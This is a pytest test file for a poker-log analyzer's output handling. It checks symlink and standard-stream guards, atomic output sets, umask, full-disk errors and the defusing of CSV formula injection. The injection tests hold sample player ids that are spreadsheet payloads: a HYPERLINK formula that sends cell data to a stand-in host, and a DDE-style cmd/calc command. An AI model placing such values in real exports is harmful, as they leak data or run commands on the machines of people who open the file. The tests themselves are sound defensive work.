"""Outputs and the user's files under misuse (analyzer.logs' writers and output guard): nothing overwritten, devices
and links kept, sets whole, an output named twice or under a compressed file's name refused, clear exits."""

from __future__ import annotations

import fcntl
import gzip
import os
import stat
from pathlib import Path
from typing import Any

import orjson
import pandas as pd
import pytest
from conftest import SAMPLES, analyzer_process, clean_exit, legal_lines, legal_log, legal_obj, run_cli

from analyzer.logs import OutputSet, atomic_write_bytes

FAST = ["--samples", "1", "--dd-samples", "0"]
AUDIT_FAST = ["--samples", "1", "--dd-samples", "1"]



def test_decisions_refuses_a_log_found_inside_a_folder_argument(tmp_path: Path) -> None:
    log = legal_log(tmp_path / "logs")
    before = log.read_bytes()
    r = run_cli("decisions", str(tmp_path / "logs"), "-o", str(log), *FAST)
    clean_exit(r, 2)
    assert "input" in r.output and log.read_bytes() == before


@pytest.mark.parametrize("command", ["validate", "report", "decisions", "audit"])
def test_no_writer_overwrites_an_input_through_a_link(tmp_path: Path, command: str) -> None:
    log = legal_log(tmp_path / "logs")
    before = log.read_bytes()
    link = tmp_path / "out.html"
    link.symlink_to(log)
    args = {"validate": ["validate", str(tmp_path / "logs"), "-o", str(link)],
            "report": ["report", str(tmp_path / "logs"), "--hand", "h0", "--out", str(link), "--samples", "1"],
            "decisions": ["decisions", str(tmp_path / "logs"), "-o", str(link), *FAST],
            "audit": ["audit", str(tmp_path / "logs"), "--out", str(tmp_path / "logs"), *AUDIT_FAST]}[command]
    if command == "audit":  # an input named like an output inside --out
        (tmp_path / "logs" / "audit.json").symlink_to(log)
    r = run_cli(*args)
    clean_exit(r, 2)
    assert "input" in r.output and log.read_bytes() == before


@pytest.mark.parametrize("command", ["validate", "report", "decisions", "simulate"])
def test_dev_null_stays_a_device(tmp_path: Path, command: str) -> None:
    log = legal_log(tmp_path)
    args = {"validate": ["validate", str(log), "-o", os.devnull],
            "report": ["report", str(log), "--hand", "h0", "--out", os.devnull, "--samples", "1"],
            "decisions": ["decisions", str(log), "-o", os.devnull, *FAST],
            "simulate": ["simulate", "--hands", "3", "--players", "4", "--colluders", "0", "--friends", "0",
                         "--out", os.devnull, "--truth", os.devnull]}[command]
    r = run_cli(*args)
    assert r.exit_code == 0 and r.exception is None or isinstance(r.exception, SystemExit), r.output
    assert r.exit_code == 0, r.output
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full")
@pytest.mark.parametrize("command", ["validate", "decisions", "simulate"])
def test_a_full_disk_is_exit_2_with_one_line(tmp_path: Path, command: str) -> None:
    log = legal_log(tmp_path)
    args = {"validate": ["validate", str(log), "-o", "/dev/full"],
            "decisions": ["decisions", str(log), "-o", "/dev/full", *FAST],
            "simulate": ["simulate", "--hands", "50", "--players", "4", "--colluders", "0", "--friends", "0",
                         "--out", "/dev/full"]}[command]
    r = run_cli(*args)
    clean_exit(r, 2)
    assert "analyzer: error: /dev/full: No space left on device" in r.output
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)  # the failed write removed nothing (pyarrow removes its path)


def test_an_output_under_a_file_is_exit_2_and_leaves_no_temp_file(tmp_path: Path) -> None:
    log = legal_log(tmp_path)
    blocker = tmp_path / "file"
    blocker.write_text("x")
    r = run_cli("validate", str(log), "-o", str(blocker / "sub" / "v.html"))
    clean_exit(r, 2)
    assert r.output.count("analyzer: error:") == 1
    r = run_cli("decisions", str(log), "-o", str(tmp_path), *FAST)  # a folder where a file is expected
    assert r.exit_code == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file", "room.jsonl"]


def test_a_failed_audit_leaves_the_old_set_and_no_temp_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    log = legal_log(tmp_path / "logs", n=4)
    out = tmp_path / "out"
    out.mkdir()
    old = {n: f"old {n}".encode() for n in ("audit.json", "pairs.csv", "players.csv", "report.html")}
    for n, b in old.items():
        (out / n).write_bytes(b)
    import analyzer.report.audit as page

    def boom(*a: object, **k: object) -> None:
        raise OSError(28, "No space left on device", str(out / "report.html"))

    monkeypatch.setattr(page, "write_audit_report", boom)
    r = run_cli("audit", str(log), "--out", str(out), *AUDIT_FAST)
    clean_exit(r, 2)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == old  # nothing new, nothing left behind


def test_an_output_set_is_locked_while_written_and_moves_in_whole(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with OutputSet(out, ["a", "b"]) as tmp:
        (tmp / "a").write_bytes(b"1")
        (tmp / "b").write_bytes(b"2")
        fd = os.open(out, os.O_RDONLY)
        try:
            with pytest.raises(BlockingIOError):  # a second run waits for this one
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        finally:
            os.close(fd)
        assert not (out / "a").exists()  # nothing moves in before the whole set is written
    assert (out / "a").read_bytes() == b"1" and (out / "b").read_bytes() == b"2"
    assert sorted(p.name for p in out.iterdir()) == ["a", "b"]


def test_interrupting_an_output_set_keeps_the_old_files(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "a").write_bytes(b"old")
    with pytest.raises(KeyboardInterrupt), OutputSet(out, ["a", "b"]) as tmp:
        (tmp / "a").write_bytes(b"new")
        raise KeyboardInterrupt
    assert sorted(p.name for p in out.iterdir()) == ["a"] and (out / "a").read_bytes() == b"old"


def _truncated_gz(folder: Path) -> Path:
    data = gzip.compress(b"".join(orjson.dumps(legal_obj(s, f"g{s}")) + b"\n" for s in range(3)))
    p = folder / "cut.jsonl.gz"
    p.write_bytes(data[: len(data) // 2])
    return p


@pytest.mark.parametrize("command", ["decisions", "players", "report", "audit"])
def test_a_read_error_is_exit_2_and_writes_nothing(tmp_path: Path, command: str) -> None:
    gz = _truncated_gz(tmp_path)
    out = tmp_path / "out"
    args = {"decisions": ["decisions", str(gz), "-o", str(out), *FAST],
            "players": ["players", str(gz), *FAST],
            "report": ["report", str(gz), "--hand", "g0", "--out", str(out), "--samples", "1"],
            "audit": ["audit", str(gz), "--out", str(out), *AUDIT_FAST]}[command]
    r = run_cli(*args)
    clean_exit(r, 2)
    assert "io-error" in r.output and not out.exists()


def test_simulate_refuses_truth_onto_its_log(tmp_path: Path) -> None:
    out = tmp_path / "room.jsonl"
    r = run_cli("simulate", "--hands", "3", "--players", "4", "--out", str(out), "--truth", str(out))
    clean_exit(r, 2)
    clean_exit(run_cli("simulate", "--hands", "3", "--players", "4", "--out", str(out)), 0)
    before = out.read_bytes()
    link = tmp_path / "truth.json"
    link.symlink_to(out)
    clean_exit(run_cli("simulate", "--hands", "3", "--players", "4", "--out", str(out), "--truth", str(link)), 2)
    assert out.read_bytes() == before


def test_outputs_follow_the_umask(tmp_path: Path) -> None:
    log = legal_log(tmp_path)
    old = os.umask(0o027)
    try:
        clean_exit(run_cli("decisions", str(log), "-o", str(tmp_path / "d.parquet"), *FAST), 0)
        atomic_write_bytes(tmp_path / "x.bin", b"x")
    finally:
        os.umask(old)
    store = tmp_path / "d.parquet"  # a decision store: a folder of Parquet parts
    files = [p for p in store.iterdir() if p.is_file()]
    assert store.is_dir() and files
    assert stat.S_IMODE(os.stat(store).st_mode) == 0o750
    for path in [*files, tmp_path / "x.bin"]:
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o640, path


#: Player ids a spreadsheet would run as formulas (OWASP: = + - @ tab carriage return), and one that starts with
#: the apostrophe itself (so that taking one apostrophe off always gives the id back).
FORMULA_IDS = ['=HYPERLINK("http://x.example/?"&A1,"hi")', "+1+cmd|/C calc!A0", "-2+3", "@SUM(1)"]
MORE_FORMULA_IDS = ["\t=1+1", "\r=2+2", "'=3+3", "plain"]


def _room_of(folder: Path, players: list[str], n: int = 6) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    p = folder / "room.jsonl"
    objs = [legal_obj(s, f"h{s}") for s in range(n)]
    for o in objs:
        o["players"] = players
    p.write_bytes(b"".join(orjson.dumps(o) + b"\n" for o in objs))
    return p


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _check_defused(rows: list[dict[str, str]], id_columns: tuple[str, ...], ids: list[str]) -> None:
    """Every id cell is the id with one apostrophe in front when it starts like a formula or with one, and every
    other cell is as a number is written: no apostrophe, a negative number still a number."""
    for row in rows:
        for c in id_columns:
            raw = row[c][1:] if row[c].startswith("'") else row[c]
            assert raw in ids and row[c] == ("'" + raw if raw[:1] in "=+-@\t\r'" else raw), row[c]
    others = [v for row in rows for k, v in row.items() if k not in id_columns]
    assert not any(v.startswith("'") for v in others)
    negative = [v for v in others if v.startswith("-")]
    assert negative and all(float(v) < 0 for v in negative)


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(tmp_path: Path) -> None:
    log = _room_of(tmp_path / "in", FORMULA_IDS)
    out = tmp_path / "au"
    r = run_cli("audit", str(log), "-o", str(out), *AUDIT_FAST)
    assert r.exit_code in (0, 1) and (r.exception is None or isinstance(r.exception, SystemExit)), r.output
    players = _csv_rows(out / "players.csv")
    assert sorted(row["player"] for row in players) == sorted("'" + i for i in FORMULA_IDS)
    _check_defused(players, ("player",), FORMULA_IDS)
    pairs = _csv_rows(out / "pairs.csv")
    assert len(pairs) == 6
    _check_defused(pairs, ("a", "b"), FORMULA_IDS)
    audit = orjson.loads((out / "audit.json").read_bytes())  # JSON keeps the ids exactly
    assert sorted(p["player"] for p in audit["players"]) == sorted(FORMULA_IDS)
    assert {i for p in audit["pairs"] for i in p["players"]} == set(FORMULA_IDS)


def test_players_csv_defuses_formulas_and_json_keeps_the_ids(tmp_path: Path) -> None:
    log = _room_of(tmp_path / "in", MORE_FORMULA_IDS)
    r = run_cli("players", str(log), "--format", "csv", "-o", str(tmp_path / "p.csv"), *FAST)
    clean_exit(r, 0)
    rows = _csv_rows(tmp_path / "p.csv")
    assert sorted(row["player"] for row in rows) == sorted(["'\t=1+1", "'\r=2+2", "''=3+3", "plain"])
    _check_defused(rows, ("player",), MORE_FORMULA_IDS)
    r = run_cli("players", str(log), "--format", "json", *FAST)
    clean_exit(r, 0)
    assert sorted(p["player"] for p in orjson.loads(r.stdout)) == sorted(MORE_FORMULA_IDS)


def test_csv_text_leaves_numbers_and_the_frame_alone() -> None:
    from analyzer.logs import csv_text

    frame = pd.DataFrame({"player": ["=1", "bob", None, "-x"], "score": [-1.5, 2.0, -3.0, 0.0], "n": [-1, 2, 3, 4],
                          "flag": [True, False, True, False], "mixed": [-7, "@x", None, "ok"]})
    before = frame.copy()
    lines = csv_text(frame, float_format="%.6g").splitlines()
    assert lines == ["player,score,n,flag,mixed", "'=1,-1.5,-1,True,-7", "bob,2,2,False,'@x", ",-3,3,True,",
                     "'-x,0,4,False,ok"]
    pd.testing.assert_frame_equal(frame, before)
    plain = pd.DataFrame({"player": ["a", "b"], "v": [-1, 1]})
    assert csv_text(plain) == plain.to_csv(index=False)  # nothing to defuse: the bytes pandas writes
    # a carriage return inside a cell: quoted (lines end in CR LF), so the row stays one row
    assert csv_text(pd.DataFrame({"player": ["a\rb", "\r=1"], "v": [-1, 1]})) == \
        'player,v\r\n"a\rb",-1\r\n"\'\r=1",1\r\n'


def test_audit_into_its_input_folder_keeps_the_logs(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    legal_log(logs, n=4)
    before = {p.name: p.read_bytes() for p in logs.iterdir()}
    r = run_cli("audit", str(logs), "--out", str(logs), *AUDIT_FAST)
    assert r.exit_code in (0, 1) and (r.exception is None or isinstance(r.exception, SystemExit)), r.output
    after = {p.name: p.read_bytes() for p in logs.iterdir()}
    assert {n: after[n] for n in before} == before
    assert set(after) == set(before) | {"audit.json", "pairs.csv", "players.csv", "report.html"}
    clean_exit(run_cli("audit", str(logs / "room.jsonl"), "--out", str(logs / "room.jsonl"), *AUDIT_FAST), 2)


def test_simulate_leaves_no_log_when_its_truth_cannot_be_written(tmp_path: Path) -> None:
    """The log and its truth are one output: a truth that cannot be written (a full disk, a file where its folder
    should be) leaves no log behind either."""
    out = tmp_path / "room.jsonl"
    if os.path.exists("/dev/full"):
        r = run_cli("simulate", "--hands", "3", "--players", "4", "--out", str(out), "--truth", "/dev/full")
        clean_exit(r, 2)
        assert "No space left" in r.output and not out.exists()
    (tmp_path / "blocker").write_text("")
    r = run_cli("simulate", "--hands", "3", "--players", "4", "--out", str(out), "--truth", str(tmp_path / "blocker" / "t.json"))
    clean_exit(r, 2)
    assert "a file is in the way" in r.output and not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["blocker"]  # no temporary file either


@pytest.mark.parametrize("command", [["validate"], ["players", "--format", "csv", *FAST]])
def test_standard_input_redirected_from_the_output_is_refused(tmp_path: Path, command: list[str]) -> None:
    """``analyzer validate - -o log.jsonl < log.jsonl``: standard input is that file, so it is an input."""
    log = legal_log(tmp_path)
    before = log.read_bytes()
    with open(log, "rb") as f:
        r = analyzer_process(command[0], "-", "-o", str(log), *command[1:], stdin=f)
    assert r.returncode == 2 and "refusing to overwrite an input file (it is standard input)" in r.stderr, r.stderr
    assert log.read_bytes() == before
    with open(log, "rb") as f:  # another output from the same redirected input is fine
        assert analyzer_process(command[0], "-", "-o", str(tmp_path / "out.txt"), *command[1:], stdin=f).returncode == 0


@pytest.mark.parametrize("command", [["audit"], ["validate"], ["players", *FAST], ["decisions", *FAST],
                                     ["report", "--hand", "h0"]])
def test_an_empty_output_path_is_a_usage_error(tmp_path: Path, command: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """``-o ''`` would mean the current folder (audit: "wrote /audit.json") or no page at all (validate)."""
    log = legal_log(tmp_path / "in")
    monkeypatch.chdir(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    r = run_cli(command[0], str(log), "-o", "", *command[1:])
    clean_exit(r, 2)
    assert "an empty path" in r.output
    assert sorted(p.name for p in tmp_path.iterdir()) == before


def test_an_output_that_cannot_be_made_is_named_as_given(tmp_path: Path) -> None:
    """Not as the hidden temporary file or folder beside it."""
    log = legal_log(tmp_path)
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        if os.access(ro, os.W_OK):  # root ignores the mode: a folder under a file cannot be made by anyone
            (tmp_path / "f").write_text("")
            ro = tmp_path / "f" / "sub"
        for command, out in ((["players", *FAST], ro / "p.csv"), (["decisions", *FAST], ro / "store")):
            r = run_cli(command[0], str(log), "-o", str(out), *command[1:])
            clean_exit(r, 2)
            assert str(out) in r.output and ".tmp" not in r.output and f"/.{out.name}." not in r.output, r.output
    finally:
        (tmp_path / "ro").chmod(0o700)


def test_a_store_part_that_cannot_be_written_is_named_and_leaves_nothing(tmp_path: Path,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Arrow's write errors name no file (``Error writing bytes to file ... No space left on device``): the message
    names the store, and no store or hidden folder is left."""
    import pyarrow.parquet as pq

    def full(*a: Any, **k: Any) -> None:
        raise OSError("Error writing bytes to file. Detail: [errno 28] No space left on device")

    monkeypatch.setattr(pq, "write_table", full)
    log = legal_log(tmp_path / "in")
    out = tmp_path / "store"
    r = run_cli("decisions", str(log), "-o", str(out), *FAST)
    clean_exit(r, 2)
    assert f"{out}: " in r.output and "No space left" in r.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]


def test_a_link_loop_is_named_as_one(tmp_path: Path) -> None:
    a, b = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
    a.symlink_to(b)
    b.symlink_to(a)
    r = run_cli("validate", str(a))
    clean_exit(r, 2)  # validate: an io-error, and no hand read at all
    assert "a link that leads to no file" in r.output
    r = run_cli("audit", str(a), "--out", str(tmp_path / "out"))
    clean_exit(r, 2)
    assert "a link that leads to no file" in r.output and not (tmp_path / "out").exists()


def test_report_audit_file_is_not_a_log_nor_the_page(tmp_path: Path) -> None:
    log = legal_log(tmp_path)
    r = run_cli("report", str(log), "--pair", "a,b", "--audit", str(log), "-o", str(tmp_path / "p.html"))
    clean_exit(r, 2)
    assert "is one of the logs" in r.output and "overwrite" not in r.output
    audit = tmp_path / "audit.json"
    audit.write_text("{}")
    r = run_cli("report", str(log), "--pair", "a,b", "--audit", str(audit), "-o", str(audit))
    clean_exit(r, 2)
    assert "refusing to overwrite the --audit file" in r.output and audit.read_text() == "{}"


def test_an_audit_write_error_names_the_output_not_its_hidden_folder(tmp_path: Path) -> None:
    """A full disk while the set is written: the error names ``out/audit.json``, a path the user knows."""
    from analyzer.logs import OutputSet

    out = tmp_path / "out"
    with pytest.raises(OSError) as caught, OutputSet(out, ["audit.json"]) as tmp:
        raise OSError(28, "No space left on device", str(tmp / "audit.json"))
    assert caught.value.filename == str(out / "audit.json")
    assert not out.exists()


@pytest.mark.parametrize("command", ["validate", "decisions", "simulate"])
def test_an_output_name_near_the_limit_is_written(command: str, tmp_path: Path) -> None:
    """A 250-byte name is legal; its hidden temporary name beside it (".NAME.XXXXXXXX.tmp") was not."""
    name = "n" * 246 + (".html" if command == "validate" else ".st" if command == "decisions" else ".jsonl")
    args = {"validate": ["validate", str(SAMPLES / "legal.jsonl")],
            "decisions": ["decisions", str(SAMPLES / "legal.jsonl"), "--samples", "2", "--dd-samples", "0"],
            "simulate": ["simulate", "--players", "8", "--hands", "2"]}[command]
    r = run_cli(*args, "-o", str(tmp_path / name))
    clean_exit(r, 0)
    assert [p.name for p in tmp_path.iterdir()] == [name]


@pytest.mark.parametrize("stream", ["stdout", "stderr"])
def test_standard_streams_appended_to_an_input_are_refused(tmp_path: Path, stream: str) -> None:
    """``analyzer validate log >> log`` read its own problem lines back as new lines of the log, without end: a
    standard stream that is one of the inputs is a usage error before anything is read."""
    import subprocess
    import sys

    log = legal_log(tmp_path / "logs")
    before = log.read_bytes()
    with open(log, "ab") as f:
        kw = {"stdout": f, "stderr": subprocess.PIPE} if stream == "stdout" else {"stdout": subprocess.PIPE, "stderr": f}
        r = subprocess.run([sys.executable, "-c", "from analyzer.cli import main; main()", "validate", str(log)],
                           timeout=120, **kw)
    assert r.returncode == 2
    grown = log.read_bytes()
    assert grown.startswith(before) and len(grown) - len(before) < 400  # at most the one error line (on stderr)
    if stream == "stdout":
        assert grown == before and b"is one of the inputs" in r.stderr


ONE_SAMPLE = ["--samples", "1", "--max-samples", "1", "--dd-samples", "0"]



@pytest.mark.parametrize("command", [["players", *ONE_SAMPLE, "-o", "{}/players.csv.gz"], ["validate", "-o", "{}/page.html.gz"],
                                     ["report", "--hand", "h0", "-o", "{}/hand.HTML.BZ2"],
                                     ["simulate", "--hands", "2", "-o", "{}/room.jsonl", "--truth", "{}/truth.json.xz"]])
def test_a_plain_output_under_a_compressed_files_name_is_a_usage_error(tmp_path: Path, command: list[str]) -> None:
    """`players -o players.csv.gz` wrote the people's table (not even CSV: the name's last suffix is not .csv) as plain
    text under a gzip name, which neither gunzip nor pandas.read_csv opens; `report -o hand.html.gz` a page a browser
    shows as bytes. A compressed file's name is a usage error for a plain output now, and nothing is written."""
    log = tmp_path / "room.jsonl"
    log.write_bytes(legal_lines(1))
    args = [a.format(tmp_path) for a in command]
    r = analyzer_process(*args[:1], *([str(log)] if args[0] != "simulate" else []), *args[1:])
    assert r.returncode == 2, r.stdout + r.stderr
    assert "a compressed file's name, and this command writes plain text" in r.stderr and "Traceback" not in r.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["room.jsonl"]


LEGAL = SAMPLES / "legal.jsonl"


def test_an_output_that_is_a_link_is_written_where_it_leads(tmp_path: Path) -> None:
    """`-o link.csv` (link.csv -> target.csv) replaced the link with a regular file and left target.csv as it was:
    now the file the link leads to is written (through a temporary file beside it, renamed), and the link stays."""
    target = tmp_path / "data" / "target.csv"
    target.parent.mkdir()
    target.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    clean_exit(run_cli("players", str(LEGAL), "-o", str(link), *ONE_SAMPLE), 0)
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text().startswith("player,skill")
    assert sorted(p.name for p in target.parent.iterdir()) == ["target.csv"]  # no temporary file left
    # a link to a file not made yet: made where the link leads
    page = tmp_path / "page.html"
    page.symlink_to("pages-made-later.html")
    clean_exit(run_cli("validate", str(LEGAL), "-o", str(page)), 0)
    assert page.is_symlink() and (tmp_path / "pages-made-later.html").read_text().startswith("<!")


def test_a_loop_of_links_as_an_output_is_refused_and_a_link_to_an_input_still_is(tmp_path: Path) -> None:
    (tmp_path / "a.html").symlink_to("b.html")
    (tmp_path / "b.html").symlink_to("a.html")
    r = run_cli("validate", str(LEGAL), "-o", str(tmp_path / "a.html"))
    clean_exit(r, 2)
    assert "a loop of links" in r.output
    log = tmp_path / "room.jsonl"
    log.write_bytes(legal_lines(2))
    before = log.read_bytes()
    (tmp_path / "out.csv").symlink_to(log)
    r = run_cli("players", str(log), "-o", str(tmp_path / "out.csv"), *ONE_SAMPLE)
    clean_exit(r, 2)
    assert "refusing to overwrite an input file" in r.output and log.read_bytes() == before
    (tmp_path / "audit").mkdir()
    (tmp_path / "audit" / "players.csv").symlink_to(log)
    r = run_cli("audit", str(log), "-o", str(tmp_path / "audit"), "--samples", "1")
    clean_exit(r, 2)
    assert "refusing to overwrite an input file" in r.output and log.read_bytes() == before


def test_an_audit_folder_and_its_files_named_by_links_are_written_where_they_lead(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "pairs.csv").write_text("old\n")
    (real / "pairs.csv").symlink_to(elsewhere / "pairs.csv")
    (tmp_path / "out").symlink_to(real)
    r = run_cli("audit", str(LEGAL), "-o", str(tmp_path / "out"), "--samples", "1", "--dd-samples", "1")
    clean_exit(r, 0)
    assert (tmp_path / "out").is_symlink() and (real / "pairs.csv").is_symlink()
    assert (elsewhere / "pairs.csv").read_text().startswith("a,b,") or "score" in (elsewhere / "pairs.csv").read_text()
    assert sorted(p.name for p in real.iterdir()) == ["audit.json", "pairs.csv", "players.csv", "report.html"]
    assert sorted(p.name for p in elsewhere.iterdir()) == ["pairs.csv"]  # no temporary copy left


def test_a_decision_store_named_by_a_link_is_made_and_added_to_where_it_leads(tmp_path: Path) -> None:
    """A link to a store not made yet: the new store's rename onto the link failed ("created by someone else during
    this run"); it is now made where the link leads, and the next run adds to it through the link."""
    (tmp_path / "store").symlink_to(tmp_path / "stores" / "day1")
    (tmp_path / "stores").mkdir()
    log = tmp_path / "room.jsonl"
    log.write_bytes(legal_lines(2))
    r = run_cli("decisions", str(log), "-o", str(tmp_path / "store"), *ONE_SAMPLE)
    clean_exit(r, 0)
    assert (tmp_path / "store").is_symlink() and (tmp_path / "stores" / "day1" / "_common_metadata").exists()
    (tmp_path / "more.jsonl").write_bytes(legal_lines(1, first=5))
    r = run_cli("decisions", str(log), str(tmp_path / "more.jsonl"), "-o", str(tmp_path / "store"), *ONE_SAMPLE)
    clean_exit(r, 0)
    assert "from 1 new hands" in r.output and "(2 hands already there)" in r.output


@pytest.mark.parametrize("args", [
    ["validate", str(LEGAL), "-o", "a.html", "-o", "b.html"],
    ["validate", str(LEGAL), "-o", "a.html", "--out", "b.html"],
    ["players", str(LEGAL), "-o", "a.csv", "--out", "b.csv", *ONE_SAMPLE],
    ["report", str(LEGAL), "--hand", "sample-tong", "-o", "a.html", "-o", "b.html", *ONE_SAMPLE],
    ["decisions", str(LEGAL), "-o", "a", "--out", "b", *ONE_SAMPLE],
    ["audit", str(LEGAL), "-o", "a", "-o", "b", "--samples", "1"],
    ["simulate", "--hands", "2", "-o", "a.jsonl", "-o", "b.jsonl"],
    ["simulate", "--hands", "2", "-o", "a.jsonl", "--truth", "t1.json", "--truth", "t2.json"],
])
def test_an_output_given_twice_is_a_usage_error(tmp_path: Path, args: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """`-o a.html -o b.html` wrote b.html alone without a word (the user waits for two files): a usage error now, as
    report's --hand given twice is, and nothing is written."""
    monkeypatch.chdir(tmp_path)
    r = run_cli(*args)
    clean_exit(r, 2)
    assert "given 2 times" in r.output and list(tmp_path.iterdir()) == []


def test_an_output_given_once_or_by_its_default_still_works(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    clean_exit(run_cli("report", str(LEGAL), "--hand", "sample-tong", *ONE_SAMPLE), 0)
    assert (tmp_path / "report.html").exists()
    clean_exit(run_cli("validate", str(LEGAL), "-o", "v.html"), 0)
    assert (tmp_path / "v.html").exists()


def test_an_output_set_that_fails_leaves_no_folder_it_made(tmp_path: Path) -> None:
    new = tmp_path / "audit"
    with pytest.raises(RuntimeError), OutputSet(new, ["audit.json"]) as tmp:
        (tmp / "audit.json").write_bytes(b"{}")
        raise RuntimeError("a failed write")
    assert not new.exists()
    old = tmp_path / "old"
    old.mkdir()
    with pytest.raises(RuntimeError), OutputSet(old, ["audit.json"]):
        raise RuntimeError("a failed write")
    assert old.is_dir()  # a folder the user had stays


def test_descriptor_names_are_read_from_the_names_not_from_where_they_lead(tmp_path: Path) -> None:
    from analyzer.logs import descriptor_of, is_special

    assert [descriptor_of(p) for p in ("/dev/stdout", "/dev/stderr", "/dev/fd/1", "/proc/self/fd/7",
                                       f"/proc/{os.getpid()}/fd/3")] == [1, 2, 1, 7, 3]
    assert descriptor_of("/proc/1/fd/1") is None or os.getpid() == 1  # another process' descriptor: not ours
    assert descriptor_of(tmp_path / "page.html") is None and descriptor_of("/dev/null") is None
    (tmp_path / "to-out").symlink_to("/dev/stdout")
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    assert descriptor_of(tmp_path / "to-out") == 1 and descriptor_of(tmp_path / "loop") is None
    assert is_special("/dev/stdout") and is_special(tmp_path / "to-out") and not is_special(tmp_path / "loop")


@pytest.mark.parametrize("target", ["/dev/fd/1", "link"])
def test_an_output_named_by_standard_output_writes_into_its_redirect(tmp_path: Path, target: str) -> None:
    """Standard output redirected to a regular file (``-o - > page.html``): the page is written through the
    descriptor, into that file, and the command does not add its path after it. (It was written beside
    ``/dev/stdout`` and renamed over it: the system's link replaced by a regular file, the redirect left empty.)"""
    if target == "link":  # a link to the process' standard output: what `-o -` and /dev/stdout are
        (tmp_path / "link").symlink_to("/proc/self/fd/1")
        target = str(tmp_path / "link")
    page = tmp_path / "page.html"
    with open(page, "wb") as out:
        r = analyzer_process("report", str(LEGAL), "--hand", "sample-plain", "-o", target, stdout=out, timeout=300)
    assert r.returncode == 0, r.stderr
    body = page.read_bytes()
    assert body.startswith(b"<!doctype html>") and body.rstrip().endswith(b"</html>"), body[-200:]
    assert target.encode() not in body[-300:] and sorted(p.name for p in tmp_path.iterdir() if p.name != "link") == [
        "page.html"]
    if target == "/dev/fd/1":
        return  # the players table through a link, below: the same writer
    table = tmp_path / "players.txt"
    with open(table, "wb") as out:
        r = analyzer_process("players", str(LEGAL), "--jobs", "1", "-o", target, stdout=out, timeout=300)
    assert r.returncode == 0 and b"skill" in table.read_bytes(), r.stderr


def test_validate_refuses_its_page_on_standard_output() -> None:
    """Standard output carries validate's problems: a page there too would be mixed into them."""
    r = run_cli("validate", str(LEGAL), "-o", "-")
    clean_exit(r, 2)
    assert "name a file for the page" in r.output
